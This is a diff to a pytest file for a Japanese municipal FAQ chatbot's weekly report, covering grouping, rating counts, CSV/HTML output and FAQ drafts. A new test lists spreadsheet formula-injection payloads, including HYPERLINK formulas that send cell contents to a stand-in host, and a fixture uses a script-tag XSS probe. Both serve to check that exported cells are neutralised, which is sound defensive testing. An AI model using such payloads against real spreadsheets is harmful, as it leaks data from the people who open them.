@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import io
+import re
 import shutil
 import uuid
 from collections import Counter
@@ -11,13 +13,15 @@ from pathlib import Path
 
 import pytest
 
+from chatbot.core import messages
 from chatbot.core.settings import Settings
-from chatbot.knowledge import KnowledgeBase, load_knowledge
+from chatbot.knowledge import FAQ, KnowledgeBase, load_knowledge
+from chatbot.knowledge.faqs import parse_faq_file
 from chatbot.knowledge.hours import TOKYO
 from chatbot.reports.build import Report, build_report
 from chatbot.reports.drafts import draft_faqs
-from chatbot.reports.groups import QuestionGroup, group_department
-from chatbot.reports.guess import index_guess
+from chatbot.reports.groups import AnsweredNow, QuestionGroup, group_department
+from chatbot.reports.guess import index_answers, index_guess
 from chatbot.reports.render import render_csv, render_html
 from chatbot.reports.run import parse_since, run
 from chatbot.search.versions import load_current
@@ -61,7 +65,10 @@ def db_url(tmp_path_factory: pytest.TempPathFactory) -> str:
             rated.append((answer, False, "土曜日に開いているかが知りたかった"))
     log.record_turn(turn(2, "暗証番号を忘れた", "mynumber-pin-forgot"))
     for i, question in enumerate(SODAI + LIBRARY + DOG + ["ふるさと納税", "<script>alert(1)</script>"]):
-        log.record_turn(turn(i % 6, question))
+        fallback = turn(i % 6, question)
+        log.record_turn(fallback)
+        if question == "ふるさと納税":  # 👎 on "we could not answer" counts as a rating too
+            rated.append((fallback, False, None))
     log.record_turn(turn(30, "一か月前の古い質問"))  # outside a 7-day report
     for answer, helpful, comment in rated:
         assert log.record_feedback(answer.answer_id, helpful, comment, answer.ts + dt.timedelta(minutes=1))
@@ -99,7 +106,8 @@ def test_unanswered_questions_are_grouped_by_similarity(week: Report, kb: Knowle
 
 
 def test_unhelpful_answers_are_grouped_with_their_faq(week: Report) -> None:
-    (group,) = week.unhelpful
+    group, fallback = week.unhelpful
+    assert members(fallback) == {"ふるさと納税"} and fallback.faqs == ()
     assert members(group) == set(SATURDAY) and group.count == 2
     assert group.faqs == (("general-office-hours", 2),)
     assert group.department == "daihyo"
@@ -112,7 +120,8 @@ def test_faq_and_department_counts(week: Report, kb: KnowledgeBase) -> None:
     assert (stats["mynumber-card-apply"].hits, stats["mynumber-card-apply"].helpful) == (4, 2)
     assert (stats["general-office-hours"].hits, stats["general-office-hours"].not_helpful) == (3, 2)
     assert dict(week.departments) == {"shimin": 5, "daihyo": 3}
-    assert (week.helpful, week.not_helpful) == (2, 2)
+    assert (week.helpful, week.not_helpful) == (2, 3)  # the 👎 on a fallback too, not only per-FAQ ones
+    assert sum(f.not_helpful for f in week.faqs) == 2
     never = {r.faq_id for r in week.never_hit}
     assert never == {f.id for f in kb.published} - set(stats)
     assert "general-open-data" in never and "mynumber-card-apply" not in never
@@ -153,6 +162,25 @@ def test_csv_has_a_section_column_and_a_bom(week: Report) -> None:
     assert {r["question"] for r in rows if r["section"] == "unanswered_question" and r["group"] == "1"} \
         == members(week.unanswered[0])
 
+
+# Half-width per OWASP, then the full-width forms a Japanese IME types.
+FORMULAS = ['=HYPERLINK("https://evil.example/?q="&A1,"粗大ごみの申込み")', "+1+1 図書館の予約", "-2+3 犬の登録",
+            "@SUM(1,1) 住民票の写し", "\t=1+1 ふるさと納税", "\r=1+1 選挙の投票所",
+            '＝ＨＹＰＥＲＬＩＮＫ（"https://evil.example"）', "＋１ 保育園の入園", "－１ 水道の開栓",
+            "＠ＳＵＭ 国民健康保険"]
+
+
+def test_csv_never_starts_a_cell_with_a_formula(kb: KnowledgeBase) -> None:
+    """Citizens' questions are quoted with ``'`` when they would run in Excel; other text is left as typed."""
+    plain = ["税金 = 市県民税？", "'引用符で始まる質問"]
+    turns = [turn(0, question) for question in FORMULAS + plain]
+    text = render_csv(build_report(turns, kb, NOW, stale_days=365, start=NOW - dt.timedelta(days=7)))
+    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
+    asked = {row["question"] for row in rows if row["section"] == "unanswered_question"}
+    assert asked == {"'" + question for question in FORMULAS} | set(plain)
+    starts = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+    assert [cell for row in rows for cell in row.values() if cell.startswith(starts)] == []
+    assert sum(int(row["count"]) for row in rows if row["section"] == "daily") == len(turns)
 
 def test_drafts_pass_validation_and_never_overwrite(week: Report, tmp_path: Path) -> None:
     root = tmp_path / "knowledge"
@@ -196,8 +224,14 @@ def test_run_reads_the_log_and_writes_the_report(db_url: str, built: Settings, t
     assert out.read_bytes().startswith("\ufeffsection".encode())
     assert out.read_bytes().decode("utf-8") == result.text and result.drafts == []
     assert "一か月前の古い質問" not in result.text and result.report.fallback == 12
+    assert all(g.answered_now is None for g in result.report.unanswered)  # no threshold: not asked
     drafts = run(*paths, dt.timedelta(days=7), "html", None, tmp_path / "faq", now=NOW).drafts
     assert len(drafts) == 2 and all(p.parent == tmp_path / "faq" / "drafts" for p in drafts)
+    checked = run(*paths, dt.timedelta(days=7), "html", None, tmp_path / "checked", now=NOW,
+                  answer_threshold=built.answer_threshold)
+    open_groups = [g for g in checked.report.unanswered if g.count >= 3 and g.answered_now is None]
+    assert checked.report.unanswered[0].answered_now is None  # nothing answers 粗大ごみ
+    assert len(checked.drafts) == len(open_groups) >= 1
 
 
 @pytest.mark.parametrize(("text", "expected"), [
@@ -212,3 +246,54 @@ def test_parse_since(text: str, expected: dt.timedelta) -> None:
 def test_parse_since_rejects_with_a_readable_message(text: str) -> None:
     with pytest.raises(ValueError, match="7d"):
         parse_since(text)
+
+
+def test_not_helpful_is_one_count_in_the_summary_the_section_and_the_log(week: Report, db_url: str) -> None:
+    """/metrics counts every 👎; the report counts every rated turn alike, answered or not."""
+    rated_down = [t for t in ConversationLog(db_url).turns(NOW - dt.timedelta(days=7)) if t.helpful is False]
+    assert week.not_helpful == sum(g.count for g in week.unhelpful) == len(rated_down) == 3
+    assert {t.outcome for t in rated_down} == {"answer", "fallback"}
+    summary = render_html(week).split("<section>")[1]
+    assert re.findall(r"<td>([^<]*)</td>", summary)[-2:] == [str(week.helpful), "3"]
+    assert "回答できなかったときの案内への評価も含み" in summary and "fallback replies included" in messages.text(
+        "report_summary_note", "en")
+
+
+PIN_FORGOT = ["マイナンバーカードの暗証番号を忘れた", "暗証番号を忘れました", "マイナカード 暗証番号 忘れた"]
+
+
+def test_groups_the_serving_index_answers_now_are_marked_and_get_no_draft(
+        built: Settings, kb: KnowledgeBase, tmp_path: Path) -> None:
+    serving = load_current(built.index_dir)
+    turns = [turn(i % 3, question) for i, question in enumerate(PIN_FORGOT + SODAI)]
+    report = build_report(turns, kb, NOW, stale_days=365,
+                          answers_now=index_answers(serving, built.answer_threshold))
+    pin = next(g for g in report.unanswered if members(g) & set(PIN_FORGOT))
+    sodai = next(g for g in report.unanswered if members(g) & set(SODAI))
+    forgot = kb.faq("mynumber-pin-forgot")
+    assert forgot is not None and pin.answered_now == AnsweredNow(forgot.id, forgot.question)
+    assert sodai.answered_now is None
+    marked = f"現在は「{forgot.question}」で回答しています"
+    assert marked in render_html(report)
+    rows = list(csv.DictReader(io.StringIO(render_csv(report)[1:], newline="")))
+    assert [(r["group"], r["id"], r["question"]) for r in rows if r["section"] == "unanswered_answered_now"] == [
+        (str(report.unanswered.index(pin) + 1), forgot.id, marked)]
+    drafts = draft_faqs(report, kb, tmp_path / "faq")
+    assert [load_draft(p, kb).question for p in drafts] == [sodai.representative]
+    assert index_answers(serving, threshold=1.01)(PIN_FORGOT[0]) is None  # below the threshold: unanswered
+
+
+def load_draft(path: Path, kb: KnowledgeBase) -> FAQ:
+    """A draft file as the loader reads it; it must load without errors."""
+    faq = parse_faq_file(path, set(kb.departments), problems := [])
+    assert faq is not None and faq.status == "draft", problems
+    return faq
+
+
+def test_a_draft_lists_the_grouped_questions_even_without_alt_questions(kb: KnowledgeBase, tmp_path: Path) -> None:
+    turns = [turn(i, "犬の登録をしたい") for i in range(3)] + [turn(0, "犬の登録をしたい？")]
+    report = build_report(turns, kb, NOW, stale_days=365)
+    (path,) = draft_faqs(report, kb, tmp_path / "faq")
+    draft = load_draft(path, kb)
+    assert draft.alt_questions == () and draft.question == "犬の登録をしたい"
+    assert "- 犬の登録をしたい ×4" in draft.answer and messages.text("report_draft_asked") in draft.answer
